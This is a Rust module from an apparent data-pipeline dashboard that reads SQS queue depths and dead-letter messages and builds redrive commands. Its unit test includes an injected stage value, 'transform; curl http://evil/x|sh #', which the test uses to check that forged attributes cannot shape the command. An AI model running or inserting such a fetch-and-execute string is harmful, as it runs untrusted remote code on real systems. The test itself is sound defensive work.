//! Reads the depths of the queues and the messages in the dead-letter queues.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use async_trait::async_trait;
use candlewick_shared::adapters::aws::Aws;
use candlewick_shared::adapters::sqs_browse;
use candlewick_shared::core::topology::Topology;
use candlewick_shared::ports::queue::{Message, Queue};
use candlewick_shared::runtime::env::Env;
use serde::Serialize;
use utoipa::ToSchema;

/// The maximum number of dead letters that are read from each queue.
const MOST: usize = 100;

/// How long results are cached: reading dead letters hides them from other readers for a moment.
const SEEN_FOR: Duration = Duration::from_secs(5);

/// How often the depths are read while nobody requests them, and how long after the last request this lower rate
/// starts.
const IDLE: Duration = Duration::from_secs(60);

/// How many characters of a message are shown.
const MOST_OF_A_BODY: usize = 400;

/// The depth of a queue and of its dead-letter queue.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, ToSchema)]
pub struct QueueDepth {
    /// The role of the queue: `ingest`, `raw`, `transformed`.
    pub queue: String,
    /// The service that consumes it.
    pub service: String,
    /// The number of waiting messages.
    pub waiting: u64,
    /// The number of messages that a consumer is processing.
    pub in_flight: u64,
    /// The number of messages in its dead-letter queue.
    pub dead_letters: u64,
    /// An upper bound for how long the oldest message has been waiting, in seconds: the time since the queue was last
    /// seen empty. Null if it has not been empty since the dashboard started.
    pub oldest_at_most_seconds: Option<u64>,
}

/// A message that can never be processed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, ToSchema)]
pub struct DeadLetter {
    /// The queue from which it was moved to the dead-letter queue.
    pub queue: String,
    pub id: String,
    /// The service that gave it up.
    pub stage: String,
    /// The class of the failure.
    pub class: String,
    /// What is wrong, where, and what to do next.
    pub reason: String,
    /// How often it was tried.
    pub attempts: String,
    /// The trace in which it was processed.
    pub trace_id: Option<String>,
    /// The message, shortened.
    pub body: String,
    /// The command that sends it back to its queue after the cause is fixed.
    pub redrive: String,
}

/// The queues could not be read.
#[derive(Clone, Debug, thiserror::Error)]
#[error("the queues do not answer ({0}): are the AWS credentials and AWS_ENDPOINT_URL right?")]
pub struct Unreachable(pub String);

/// Reads the queues without changing them.
#[async_trait]
pub trait Queues: Send + Sync {
    /// The depth of each queue.
    async fn depths(&self) -> Result<Vec<QueueDepth>, Unreachable>;

    /// The messages in the dead-letter queues. They are received, but not deleted.
    async fn dead_letters(&self) -> Result<Vec<DeadLetter>, Unreachable>;
}

/// A result and when it was read.
type Seen<T> = Option<(Instant, Result<Vec<T>, Unreachable>)>;

/// A cached result, locked while it is being read.
type Memory<T> = tokio::sync::Mutex<Seen<T>>;

/// The SQS queues whose URLs the settings name.
pub struct SqsQueues {
    aws: Aws,
    urls: BTreeMap<String, String>,
    last_empty: Mutex<BTreeMap<String, Instant>>,
    letters: Memory<DeadLetter>,
    depths: Memory<QueueDepth>,
    /// When the depths were last requested.
    asked_at: Mutex<Option<Instant>>,
}

impl SqsQueues {
    /// The queues of the topology whose URLs are in the settings.
    pub fn new(aws: Aws, env: &Env) -> Self {
        let roles = Topology::built_in().queues.keys();
        let urls = roles.filter_map(|role| Some((role.clone(), env.queue_url(role).ok()?.to_owned()))).collect();
        let letters = Memory::default();
        let depths = Memory::default();
        Self { aws, urls, last_empty: Mutex::default(), letters, depths, asked_at: Mutex::default() }
    }

    /// The same, with a task that reads the depths for as long as this program runs.
    pub fn watched(aws: Aws, env: &Env) -> Arc<Self> {
        let queues = Arc::new(Self::new(aws, env));
        tokio::spawn(queues.clone().watch());
        queues
    }

    /// Reads the depths regularly, to know since when a queue has not been empty. While nobody views the pages it does
    /// so only once a minute, because each time costs a call per queue and dead-letter queue.
    async fn watch(self: Arc<Self>) {
        loop {
            let _ = remembered(&self.depths, self.look()).await;
            tokio::time::sleep(self.pause()).await;
        }
    }

    fn pause(&self) -> Duration {
        let asked_at = *self.asked_at.lock().unwrap_or_else(PoisonError::into_inner);
        if asked_at.is_some_and(|asked_at| asked_at.elapsed() < IDLE) { SEEN_FOR } else { IDLE }
    }

    /// Without any queue, an empty result would look like a healthy pipeline.
    fn require_queues(&self) -> Result<(), Unreachable> {
        if self.urls.is_empty() {
            Err(Unreachable("RAW_QUEUE_URL and the others are not set".to_owned()))
        } else {
            Ok(())
        }
    }

    async fn look(&self) -> Result<Vec<QueueDepth>, Unreachable> {
        let topology = Topology::built_in();
        let mut all = Vec::new();
        for (role, url) in &self.urls {
            let depth = self.aws.queue(url).depth().await.map_err(unreachable)?;
            let dead = self.aws.queue(&topology.dead_letter_name(url)).depth().await.map_err(unreachable)?;
            let waiting = depth.waiting + depth.delayed;
            all.push(QueueDepth {
                queue: role.clone(),
                service: topology.queue(role).map(|queue| queue.service.clone()).unwrap_or_default(),
                waiting,
                in_flight: depth.in_flight,
                dead_letters: dead.waiting + dead.in_flight,
                oldest_at_most_seconds: self.oldest(role, waiting == 0),
            });
        }
        Ok(all)
    }

    fn oldest(&self, role: &str, is_empty: bool) -> Option<u64> {
        let mut last_empty = self.last_empty.lock().unwrap_or_else(PoisonError::into_inner);
        if is_empty {
            last_empty.insert(role.to_owned(), Instant::now());
        }
        last_empty.get(role).map(|last| last.elapsed().as_secs())
    }

    async fn browse(&self) -> Result<Vec<DeadLetter>, Unreachable> {
        let mut all = Vec::new();
        for (role, url) in &self.urls {
            let url = Topology::built_in().dead_letter_name(url);
            let messages = sqs_browse::browse(&self.aws.sqs(), &url, MOST).await.map_err(unreachable)?;
            all.extend(messages.iter().map(|message| letter(role, message)));
        }
        Ok(all)
    }
}

#[async_trait]
impl Queues for SqsQueues {
    async fn depths(&self) -> Result<Vec<QueueDepth>, Unreachable> {
        self.require_queues()?;
        *self.asked_at.lock().unwrap_or_else(PoisonError::into_inner) = Some(Instant::now());
        remembered(&self.depths, self.look()).await
    }

    async fn dead_letters(&self) -> Result<Vec<DeadLetter>, Unreachable> {
        self.require_queues()?;
        remembered(&self.letters, self.browse()).await
    }
}

/// A recently cached result, or a new one. Of several concurrent callers one reads and the others wait for its result.
async fn remembered<T: Clone>(
    seen: &Memory<T>,
    look: impl Future<Output = Result<Vec<T>, Unreachable>>,
) -> Result<Vec<T>, Unreachable> {
    let mut seen = seen.lock().await;
    match &*seen {
        Some((when, what)) if when.elapsed() < SEEN_FOR => what.clone(),
        _ => {
            let what = look.await;
            *seen = Some((Instant::now(), what.clone()));
            what
        }
    }
}

/// Logs the whole error chain; a page gets only the outermost message, shortened.
fn unreachable(error: impl Into<anyhow::Error>) -> Unreachable {
    let error = error.into();
    tracing::warn!("look at the queues: {error:#}");
    let text = error.to_string();
    Unreachable(text.chars().take(120).collect())
}

fn letter(queue: &str, message: &Message) -> DeadLetter {
    let attribute = |name: &str| message.attributes.get(name).cloned();
    let said = attribute("stage").unwrap_or_default();
    let stage = Topology::built_in().service(&said);
    let by_the_queue = || "delivered too often: its consumer died each time".to_owned();
    DeadLetter {
        queue: queue.to_owned(),
        id: message.id.clone(),
        stage: stage.unwrap_or("queue").to_owned(),
        class: attribute("class").unwrap_or_else(|| "undeliverable".to_owned()),
        reason: attribute("reason").unwrap_or_else(by_the_queue),
        attempts: attribute("attempts").unwrap_or_else(|| message.receive_count.to_string()),
        trace_id: attribute("trace-id"),
        body: message.body.chars().take(MOST_OF_A_BODY).collect(),
        redrive: redrive_command(stage),
    }
}

/// The command that sends dead letters back to their queue, limited to a stage if it is a known one.
fn redrive_command(stage: Option<&str>) -> String {
    stage.map_or_else(|| "candlewick dlq redrive".to_owned(), |stage| format!("candlewick dlq redrive --stage {stage}"))
}

#[cfg(test)]
mod tests {
    use candlewick_shared::ports::queue::Receipt;

    use super::*;

    fn command(stage: &str) -> String {
        let id = "1".to_owned();
        let body = String::new();
        let attributes = [("stage".to_owned(), stage.to_owned())].into();
        letter("raw", &Message { id, receipt: Receipt("r".to_owned()), body, receive_count: 1, attributes }).redrive
    }

    #[test]
    fn a_forged_letter_decides_no_command() {
        assert_eq!(command("transform"), "candlewick dlq redrive --stage transform");
        for forged in ["transform; curl http://evil/x|sh #", "dashboard", "", "TRANSFORM"] {
            assert_eq!(command(forged), "candlewick dlq redrive", "{forged}");
        }
    }
}
